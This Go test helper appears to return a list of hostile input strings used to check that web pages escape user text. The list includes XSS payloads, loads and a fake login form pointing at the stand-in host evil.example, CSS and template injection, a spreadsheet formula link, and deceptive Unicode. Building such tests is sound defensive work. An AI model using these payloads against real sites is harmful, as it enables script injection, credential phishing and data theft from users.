package webtest

// Hostile gives texts that would run, load, restyle, mislead or break a page that
// takes them for anything but text. What runs sets window.pwned or opens a dialog,
// what loads asks evil.example: [Browser.Quiet] and `window.pwned` tell.
func Hostile() []string {
	return []string{
		// run
		`<script>window.pwned=1;alert(1)</script>`,
		`</script><script>window.pwned=2</script>`,
		`"><img src=x onerror="window.pwned=3">`,
		`'><svg/onload=window.pwned=4>`,
		"` onmouseover=`window.pwned=5",
		`" autofocus onfocus="window.pwned=6`,
		`<iframe srcdoc="<script>parent.pwned=7</script>"></iframe>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=8&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=window.pwned=9>">`,
		`<a href="javascript:window.pwned=10">open</a>`,
		"javascript:window.pwned=11",
		"java\tscript:window.pwned=12",
		"data:text/html,<script>opener.pwned=13</script>",
		`</textarea></title></style></template><script>window.pwned=14</script>`,
		`--><script>window.pwned=15</script><!--`,
		`]]><script>window.pwned=16</script>`,
		`</iframe><script>window.pwned=17</script>`,
		`&lt;script&gt;window.pwned=18&lt;/script&gt;`,
		`<form action="https://evil.example/form"><input name=key><button>Log in</button></form>`,
		// load and leave
		`<img src="https://evil.example/pixel.png">`,
		`<link rel=stylesheet href="//evil.example/style.css">`,
		`<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/away">`,
		`<object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
		`<video poster="https://evil.example/v.png"><source src="https://evil.example/v.mp4"></video>`,
		`https://evil.example/picture.png`,
		// restyle
		`</style><style>body{display:none}</style>`,
		`<div style="position:fixed;inset:0;background:url(https://evil.example/bg)">over all</div>`,
		`@import url("https://evil.example/import.css");`,
		`red;background:url(https://evil.example/prop)`,
		`x:expression(window.pwned=19)`,
		// mislead
		"\u202Eecnedifnoc\u202C and \u2066held\u2069",
		"<b id=\"main\" class=\"d-filled\">not ours</b>",
		"zero\u200Bwidth\uFEFF\u00AD",
		// break
		"line\u2028paragraph\u2029end",
		"null\\u0000 \\x3cscript\\x3e \\u003cscript\\u003e",
		"{{.Team.Name}} {{printf \"%s\" .}} ${window.pwned=20} <%= 1 %>",
		`=HYPERLINK("https://evil.example/cell","open")`,
		"a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C",
		longWord(),
	}
}

// longWord has no place to break.
func longWord() string {
	word := make([]byte, 400)
	for i := range word {
		word[i] = "Wm"[i%2]
	}
	return string(word)
}
